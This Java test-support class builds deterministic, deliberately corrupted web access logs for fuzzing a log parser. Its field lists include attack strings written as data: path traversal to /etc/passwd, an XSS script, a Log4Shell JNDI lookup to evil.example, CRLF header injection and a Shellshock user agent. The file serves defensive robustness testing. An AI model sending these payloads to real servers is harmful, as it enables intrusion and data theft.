package org.siterank.accesslog;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPInputStream;

/**
 * Lines of a real log after attackers, broken clocks and broken programs had their way with them.
 * The same every time for a seed.
 */
public final class HostileLog {

  private static final List<String> CLIENTS =
      List.of(
          "2001:db8::17", "::ffff:192.0.2.1", "fe80::1%eth0", "[::]", "-", "host.example", "\t");

  private static final List<String> TIMES =
      List.of(
          "31/Feb/2015:10:05:03 +0000",
          "29/Feb/2016:10:05:03 +0000",
          "17/May/9999:10:05:03 +0000",
          "17/May/1969:10:05:03 +0000",
          "01/Jan/1970:00:00:00 +2359",
          "17/May/2014:10:05:03 +0000",
          "17/May/2019:10:05:60 -1200",
          "17/Xxx/2015:10:05:03 +0000",
          "17/May/2015:25:61:61 +9999",
          "00/May/2015:10:05:03 +0000",
          "1431857103.123");

  private static final List<String> REQUESTS =
      List.of(
          "\\x16\\x03\\x01\\x02\\x00\\x01\\x00",
          "GET /../../../../etc/passwd HTTP/1.1",
          "GET /%2e%2e/%c0%af%00?a=%zz HTTP/1.1",
          "GET /?q=<script>alert(\\\"1\\\")</script> HTTP/1.1",
          "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1",
          "GET /\u001b]0;title\u0007\u001b[2J HTTP/1.1",
          "GET /a\\x1b[31m\\x00\\xe2\\x80\\xae HTTP/1.1",
          "GET /a\"b\"c \"d HTTP/1.1",
          "GET /a\tb\tc HTTP/1.1",
          "GET //evil.example/%0d%0aSet-Cookie:x HTTP/1.1",
          "GET http://evil.example/proxy HTTP/1.1",
          "GET http://[::1]:99999/ HTTP/1.1",
          "GET /robots.txt HTTP/1.1",
          "GET /robots.txt/../a#b?c HTTP/1.1",
          "CONNECT evil.example:443 HTTP/1.1",
          "GET",
          "",
          " ",
          "-");

  private static final List<String> REFERRERS =
      List.of(
          "javascript:alert(1)",
          "http://[::1]/",
          "http://[fe80::1%25eth0]/",
          "http://semicomplete.com.evil.example/",
          "http://semicomplete.com@evil.example/",
          "http://evil.example/\\x1b[2J\\\"",
          "http://evil.example/\u202egnp.exe",
          "http://\u0430\u0440\u0440le.example/",
          "http://xn--/",
          "http://xn--a-\u0000.example/",
          "http://" + "a".repeat(300) + ".example/",
          "http://" + "a.".repeat(200) + "example/",
          "http://...",
          "http://",
          "//",
          "android-app://\u001b[2J/x",
          "\\",
          "\"");

  private static final List<String> AGENTS =
      List.of(
          "\u001b[31mMozilla\u001b[0m",
          "() { :;}; /bin/cat /etc/passwd",
          "\\",
          "\"\"\"",
          "",
          "a\tb");

  private final Random random;
  private final ByteArrayOutputStream out = new ByteArrayOutputStream();

  private HostileLog(long seed) {
    random = new Random(seed);
  }

  /** A log made of some thousand real lines. */
  public static byte[] of(long seed) throws IOException {
    Path real = SharedLogs.file("semicomplete/access-2015-05-17_20.pseudo.log.gz");
    String text;
    try (InputStream in = new GZIPInputStream(Files.newInputStream(real))) {
      text = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
    }
    HostileLog log = new HostileLog(seed);
    for (String line : text.lines().toList()) {
      if (log.random.nextInt(3) == 0) {
        log.add(line);
      }
    }
    return log.out.toByteArray();
  }

  private void add(String line) {
    String[] parts = line.split("\"", -1);
    int time = line.indexOf('[');
    int behindTime = line.indexOf(']');
    if (parts.length < 7 || time < 0 || behindTime < time) {
      write(line);
      return;
    }
    String client = maybe(line.substring(0, line.indexOf(' ')), CLIENTS);
    String when = maybe(line.substring(time + 1, behindTime), TIMES);
    String request = maybe(parts[1], REQUESTS);
    String referrer = maybe(parts[3], REFERRERS);
    String agent = maybe(parts[5], AGENTS);
    if (random.nextInt(500) == 0) {
      // As long as a chunk, and longer.
      request = "GET /" + "%41".repeat(random.nextInt(800_000)) + " HTTP/1.1";
    }
    if (random.nextInt(500) == 0) {
      referrer = "http://evil.example/" + "x".repeat(random.nextInt(200_000));
    }
    String hostile =
        client + " - - [" + when + "] \"" + request + "\"" + parts[2] + "\"" + referrer + "\" \""
            + agent + "\"";
    write(random.nextInt(20) == 0 ? scramble(hostile) : hostile);
  }

  private String maybe(String real, List<String> hostile) {
    return random.nextInt(12) == 0 ? hostile.get(random.nextInt(hostile.size())) : real;
  }

  /** Cuts, doubles, overwrites with any byte, or joins with what follows. */
  private String scramble(String line) {
    StringBuilder text = new StringBuilder(line);
    for (int n = random.nextInt(6); n >= 0 && text.length() > 2; n--) {
      int at = random.nextInt(text.length() - 1);
      switch (random.nextInt(5)) {
        case 0 -> text.setLength(at);
        case 1 -> text.setCharAt(at, (char) random.nextInt(256));
        case 2 -> text.insert(at, line, 0, random.nextInt(line.length()));
        case 3 -> text.setCharAt(at, "\"\\\t\r\n [".charAt(random.nextInt(7)));
        default -> text.delete(at, Math.min(text.length(), at + random.nextInt(30)));
      }
    }
    return text.toString();
  }

  private void write(String line) {
    boolean utf8 = random.nextBoolean();
    out.writeBytes(line.getBytes(utf8 ? StandardCharsets.UTF_8 : StandardCharsets.ISO_8859_1));
    out.write('\n');
  }
}
